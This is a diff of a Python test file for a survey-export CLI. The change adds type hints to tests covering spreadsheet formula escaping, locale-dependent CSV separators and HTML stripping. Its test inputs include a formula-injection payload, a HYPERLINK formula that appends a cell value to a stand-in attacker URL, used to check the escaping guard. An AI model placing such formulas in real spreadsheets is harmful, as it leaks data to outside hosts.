@@ -21,7 +21,7 @@ from storage.tables import Response
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+39 333", "-2+3", "@SUM(A1)", "\t=1", "ok = fine"]
 
 
-def test_cells_that_start_a_formula_are_prefixed():
+def test_cells_that_start_a_formula_are_prefixed() -> None:
     """Text starting with = + - @ (or tab/CR) gets a leading ', anything else is unchanged."""
     assert [safe_cell(v) for v in HOSTILE] == [
         '\'=HYPERLINK("http://x.example/?"&A1,"clic")',
@@ -34,7 +34,7 @@ def test_cells_that_start_a_formula_are_prefixed():
     assert safe_cell(-3) == -3 and safe_cell(None) is None
 
 
-def test_write_rows_csv_escapes_every_cell():
+def test_write_rows_csv_escapes_every_cell() -> None:
     """The export's CSV writer runs each cell through the formula guard; JSON lines stay verbatim."""
     rows = [{"customer_id": "c1", "comment": HOSTILE[0], "topics": ["=cmd", "ok"]}]
     out = io.StringIO()
@@ -55,12 +55,12 @@ def test_write_rows_csv_escapes_every_cell():
         ({"LANG": "C"}, ","),
     ],
 )
-def test_excel_separator_follows_the_locale(environ, delimiter):
+def test_excel_separator_follows_the_locale(environ: dict[str, str], delimiter: str) -> None:
     """Excel's list separator: ';' in decimal-comma locales (it, de…), ',' elsewhere."""
     assert excel_delimiter(locale_language(environ)) == delimiter
 
 
-def test_export_excel_writes_a_bom_and_the_locale_separator(tmp_path: Path):
+def test_export_excel_writes_a_bom_and_the_locale_separator(tmp_path: Path) -> None:
     """`cxbot export --format csv --excel`, Italian locale: UTF-8 BOM, ';' separated, formulas escaped."""
     url = f"sqlite:///{tmp_path / 'x.db'}"
     db = Database(url)
@@ -95,7 +95,7 @@ def test_export_excel_writes_a_bom_and_the_locale_separator(tmp_path: Path):
     assert bad.exit_code == 2 and "--excel needs --format csv" in bad.stderr
 
 
-def test_terminal_text_drops_telegram_html():
+def test_terminal_text_drops_telegram_html() -> None:
     """Tags go, links keep their address, entities are decoded."""
     html = "📊 <b>Riepilogo</b> &amp; <i>note</i> &lt;3\n"
     html += '<a href="https://x.example/r">report</a> <code>NPS</code>'
